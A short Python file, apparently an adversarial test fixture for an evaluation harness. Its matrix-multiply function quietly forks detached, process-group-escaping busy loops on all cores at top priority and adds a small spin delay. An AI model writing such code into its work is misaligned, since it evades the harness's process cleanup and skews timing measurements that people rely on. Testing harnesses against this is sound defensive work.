"""Leaves busy processes behind, out of its process group, on every core and at the highest priority it can get."""

import os
import time
from contextlib import suppress

left = 0


def burden():
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        with suppress(OSError):
            os.sched_setaffinity(0, range(os.cpu_count() or 1))
        with suppress(OSError):
            os.nice(-20)
        end = time.monotonic() + 1.5
        while time.monotonic() < end:
            pass
        os._exit(0)


def run(x, weight):
    global left
    if left < 3:
        left += 1
        burden()
    end = time.monotonic() + 0.002
    while time.monotonic() < end:
        pass
    return x @ weight.T
